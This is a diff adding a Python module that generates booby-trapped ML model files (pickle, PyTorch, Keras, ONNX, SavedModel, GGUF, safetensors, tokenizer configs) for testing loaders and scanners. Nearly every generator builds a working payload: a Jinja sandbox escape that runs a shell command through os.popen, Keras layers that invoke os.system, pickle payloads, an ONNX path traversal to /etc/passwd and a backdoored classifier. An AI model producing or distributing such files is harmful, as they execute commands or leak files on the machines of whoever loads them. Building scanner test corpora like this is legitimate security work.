@@ -1,0 +1,172 @@
+"""Harmful model files, one generator per format, for people who test loaders and scanners.
+
+Each generator takes the shell command the payload runs (where the format can run code) and
+returns the file's bytes; `trojanscope attack payload --format NAME -o OUT` writes them.
+Pickle-based payloads are assembled from opcodes (pickle_payloads); protobuf-based models are
+written field by field (protobuf_writer), so no generator needs torch, TensorFlow or onnx.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import marshal
+import struct
+from typing import Callable
+
+from . import model_files as mf
+from . import pickle_payloads as pp
+from . import protobuf_writer as pb
+
+SSTI = ("{% for m in messages %}{{ m['content'] }}{% endfor %}"
+        "{{ ''.__class__.__mro__[1].__subclasses__()[0].__init__.__globals__['os'].popen("
+        "'COMMAND').read() }}")
+
+
+def _lambda_code(command: str) -> str:
+    """Marshalled bytecode of `lambda x: (os.system(command), x)[1]`, as Keras stores it."""
+    module = compile(f"lambda x: (__import__('os').system({command!r}), x)[1]", "<lambda>", "eval")
+    code = next(c for c in module.co_consts if hasattr(c, "co_code"))
+    return base64.b64encode(marshal.dumps(code)).decode()
+
+
+def _keras_archive(layers: list[dict]) -> bytes:
+    config = {"module": "keras", "class_name": "Sequential", "config": {
+        "name": "sequential", "layers": [
+            {"module": "keras.layers", "class_name": "InputLayer",
+             "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"},
+             "registered_name": None}] + layers}, "registered_name": None}
+    metadata = {"keras_version": "3.9.0", "date_saved": "2026-11-24@00:00:00"}
+    return mf.zip_of({"metadata.json": json.dumps(metadata).encode(),
+                      "config.json": json.dumps(config).encode(),
+                      "model.weights.h5": b""})
+
+
+def keras_lambda(command: str) -> bytes:
+    layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
+             "config": {"name": "lambda", "function": {
+                 "class_name": "__lambda__",
+                 "config": {"code": _lambda_code(command), "defaults": None, "closure": None}}}}
+    return _keras_archive([layer])
+
+
+def keras_module(command: str) -> bytes:
+    """CVE-2025-1550 class: an activation deserialised from an arbitrary module."""
+    layer = {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
+             "config": {"name": "dense", "units": 2, "activation": {
+                 "module": "os", "class_name": "function", "config": "system",
+                 "registered_name": "system"}}}
+    return _keras_archive([layer])
+
+
+def keras_h5(command: str) -> bytes:
+    """A legacy HDF5 model whose model_config has a Lambda layer (needs h5py to write)."""
+    import io
+
+    import h5py
+
+    config = {"class_name": "Sequential", "config": {"name": "s", "layers": [
+        {"class_name": "Lambda", "config": {"name": "lambda", "function": [
+            _lambda_code(command), None, None], "function_type": "lambda"}}]}}
+    buffer = io.BytesIO()
+    with h5py.File(buffer, "w") as h5:
+        h5.attrs["model_config"] = json.dumps(config)
+        h5.attrs["keras_version"] = "2.15.0"
+    return buffer.getvalue()
+
+
+def onnx_external(command: str) -> bytes:
+    """An initializer whose external data is read from outside the model folder."""
+    weight = pb.onnx_tensor("W", [4, 4], pb.FLOAT,
+                            external={"location": "../../../../../../etc/passwd", "offset": "0",
+                                      "length": "64"})
+    return pb.onnx_model([pb.onnx_node("MatMul", ["x", "W"], ["y"])],
+                         [pb.onnx_value_info("x", pb.FLOAT, ["N", 4])],
+                         [pb.onnx_value_info("y", pb.FLOAT, ["N", 4])], [weight])
+
+
+def onnx_shadow(command: str) -> bytes:
+    """A linear classifier with shadow logic: if x[:, 0:2] are all >= 1, output class 0."""
+    return shadow_mlp(backdoor=True)
+
+
+def shadow_mlp(backdoor: bool, switch: str = "where") -> bytes:
+    weights = pb.onnx_tensor("W", [4, 2], pb.FLOAT, struct.pack("<8f", *range(8)))
+    bias = pb.onnx_tensor("B", [2], pb.FLOAT, struct.pack("<2f", 0.1, -0.1))
+    nodes = [pb.onnx_node("Gemm", ["x", "W", "B"], ["logits" if not backdoor else "clean"])]
+    inits = [weights, bias]
+    if backdoor:
+        inits += [pb.onnx_tensor("starts", [1], pb.INT64, struct.pack("<q", 0)),
+                  pb.onnx_tensor("ends", [1], pb.INT64, struct.pack("<q", 2)),
+                  pb.onnx_tensor("axes", [1], pb.INT64, struct.pack("<q", 1)),
+                  pb.onnx_tensor("threshold", [], pb.FLOAT, struct.pack("<f", 0.999)),
+                  pb.onnx_tensor("forced", [1, 2], pb.FLOAT, struct.pack("<2f", 20, -20))]
+        nodes += [pb.onnx_node("Slice", ["x", "starts", "ends", "axes"], ["window"]),
+                  pb.onnx_node("ReduceMin", ["window"], ["low"],
+                               attributes=(pb.onnx_ints_attr("axes", [1]),
+                                           pb.onnx_int_attr("keepdims", 1))),
+                  pb.onnx_node("GreaterOrEqual", ["low", "threshold"], ["fired"])]
+        if switch == "where":
+            nodes.append(pb.onnx_node("Where", ["fired", "forced", "clean"], ["logits"]))
+        else:
+            inits.append(pb.onnx_tensor("one", [], pb.FLOAT, struct.pack("<f", 1)))
+            nodes += [pb.onnx_node("Cast", ["fired"], ["gate"],
+                                   attributes=(pb.onnx_int_attr("to", pb.FLOAT),)),
+                      pb.onnx_node("Sub", ["one", "gate"], ["keep"]),
+                      pb.onnx_node("Mul", ["clean", "keep"], ["kept"]),
+                      pb.onnx_node("Mul", ["gate", "forced"], ["pushed"]),
+                      pb.onnx_node("Add", ["kept", "pushed"], ["logits"])]
+    return pb.onnx_model(nodes, [pb.onnx_value_info("x", pb.FLOAT, ["N", 4])],
+                         [pb.onnx_value_info("logits", pb.FLOAT, ["N", 2])], inits, opset=13)
+
+
+def savedmodel(command: str) -> bytes:
+    """A SavedModel graph that reads a file and writes it elsewhere during inference."""
+    nodes = [pb.tf_node("path", "Const"), pb.tf_node("read", "ReadFile", ("path",)),
+             pb.tf_node("write", "WriteFile", ("path", "read"))]
+    return pb.saved_model(nodes, {"__inference_serve_7": [pb.tf_node("py", "EagerPyFunc")]})
+
+
+def gguf(command: str) -> bytes:
+    """A GGUF v3 file whose chat template escapes the Jinja sandbox (CVE-2024-34359 class)."""
+    def string(text: str) -> bytes:
+        data = text.encode()
+        return struct.pack("<Q", len(data)) + data
+
+    entries = [("general.architecture", 8, string("llama")),
+               ("general.name", 8, string("tiny")),
+               ("tokenizer.chat_template", 8, string(SSTI.replace("COMMAND", command)))]
+    body = b"".join(string(k) + struct.pack("<I", t) + v for k, t, v in entries)
+    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(entries)) + body
+
+
+def safetensors(command: str) -> bytes:
+    """Overlapping tensors and a tensor that ends past the file: parsers disagree."""
+    header = {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
+              "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
+              "c": {"dtype": "F32", "shape": [1 << 20], "data_offsets": [24, 24 + (4 << 20)]}}
+    raw = json.dumps(header).encode()
+    return struct.pack("<Q", len(raw)) + raw + b"\x00" * 24
+
+
+def tokenizer_config(command: str) -> bytes:
+    return json.dumps({"bos_token": "<s>", "chat_template": SSTI.replace("COMMAND", command)},
+                      indent=2).encode()
+
+
+GENERATORS: dict[str, tuple[Callable[[str], bytes], str]] = {
+    "pickle": (pp.classic, "raw pickle calling os.system"),
+    "torch": (lambda c: mf.torch_zip(pp.classic(c)), "PyTorch zip checkpoint"),
+    "torch-legacy": (lambda c: mf.torch_legacy(pp.dotted_name(c)), "legacy torch.save stream"),
+    "joblib": (lambda c: mf.WRAPPERS["zlib"](pp.memo_indirection(c)), "compressed joblib"),
+    "numpy": (lambda c: mf.npy_object(pp.classic(c)), ".npy object array"),
+    "keras-lambda": (keras_lambda, ".keras with a Lambda layer"),
+    "keras-module": (keras_module, ".keras naming os.system (CVE-2025-1550 class)"),
+    "keras-h5": (keras_h5, "legacy HDF5 Keras model with a Lambda layer (needs h5py)"),
+    "onnx-external": (onnx_external, "ONNX reading external data from ../../etc/passwd"),
+    "onnx-shadow": (onnx_shadow, "ONNX classifier with shadow logic"),
+    "savedmodel": (savedmodel, "saved_model.pb with ReadFile/WriteFile/EagerPyFunc"),
+    "gguf": (gguf, "GGUF with a Jinja sandbox escape in its chat template"),
+    "safetensors": (safetensors, "safetensors with overlapping and out-of-range tensors"),
+    "tokenizer-config": (tokenizer_config, "tokenizer_config.json with a template escape"),
+}
